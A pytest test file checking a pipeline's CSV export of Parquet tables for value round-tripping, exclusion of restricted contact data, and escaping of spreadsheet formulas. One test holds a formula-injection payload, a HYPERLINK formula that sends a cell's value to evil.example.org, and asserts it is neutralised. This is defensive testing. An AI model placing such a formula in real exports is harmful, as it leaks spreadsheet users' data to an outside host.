"""The CSV edition: the same values as in Parquet, nothing a spreadsheet would run, nobody's contact data."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from made import built, page, tab

from pipeline.build.tables.csv_edition import ESCAPED, cell, escaped, unescaped
from pipeline.schema.spec import Column, tables

URL = "https://archiwum.dobrepraktyki.pl/index.php?p1=1&p2=2&art="
PUBLIC = [name for name, table in tables().items() if not table.is_restricted]


def read_back(text: str, column: Column) -> Any:
    """What the README of the edition tells a reader to do."""
    if text == "":
        return None
    match column.type:
        case "text":
            return unescaped(text)
        case "boolean":
            return {"true": True, "false": False}[text]
        case "integer":
            return int(text)
        case "number":
            return float(text)
        case "date":
            return dt.date.fromisoformat(text)
        case "timestamp":
            return dt.datetime.fromisoformat(text)
        case "list":
            return json.loads(text)


@pytest.mark.parametrize("name", PUBLIC)
def test_every_value_comes_back(name: str, demo_snapshot: Path) -> None:
    table = tables()[name]
    body = (demo_snapshot / "csv" / f"{name}.csv").read_bytes()
    assert not body.startswith(b"\xef\xbb\xbf")
    assert body.split(b"\r\n", 1)[0].decode() == ",".join(table.columns)
    with (demo_snapshot / "csv" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
        read = [
            {column: read_back(text, table.columns[column]) for column, text in row.items()}
            for row in csv.DictReader(file, strict=True)
        ]
    assert read == pq.read_table(demo_snapshot / table.path).to_pylist()


def test_restricted_tables_have_no_csv(demo_snapshot: Path) -> None:
    files = sorted(path.name for path in (demo_snapshot / "csv").iterdir())
    assert files == sorted(["README.md", "datapackage.json", *(f"{name}.csv" for name in PUBLIC)])
    text = (demo_snapshot / "csv" / "practices.csv").read_text("utf-8")
    people = pq.read_table(demo_snapshot / "restricted" / "practice_contacts.parquet").to_pylist()
    assert people
    assert not [person["position"] for person in people if person["name"] and person["name"] in text]


def test_a_formula_in_a_title_is_harmless_and_parquet_is_unchanged(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example.org/?"&A1,"kliknij")'
    snapshot = built(tmp_path, [page(URL + "7", [tab("bdp:7", title=formula)])]).snapshot
    assert pq.read_table(snapshot / "practices.parquet")["title"].to_pylist() == [formula]
    with (snapshot / "csv" / "practices.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["title"] == "'" + formula


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\na1 ")) | st.text())
def test_escaping_can_be_undone_and_leaves_no_formula(text: str) -> None:
    assert unescaped(escaped(text)) == text
    assert not escaped(text).startswith(ESCAPED)


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "true"),
        (-5, "-5"),
        (-0.5, "-0.5"),
        (dt.date(2011, 3, 5), "2011-03-05"),
        (dt.datetime(2011, 3, 5, 1, 2, 3, tzinfo=dt.UTC), "2011-03-05T01:02:03Z"),
        (dt.datetime(2011, 3, 5, 1, tzinfo=dt.timezone(dt.timedelta(hours=2))), "2011-03-04T23:00:00Z"),
        (["=a", 'b"'], '["=a","b\\""]'),
        ("-", "'-"),
    ],
)
def test_cells(value: Any, text: str) -> None:
    assert cell(value) == text
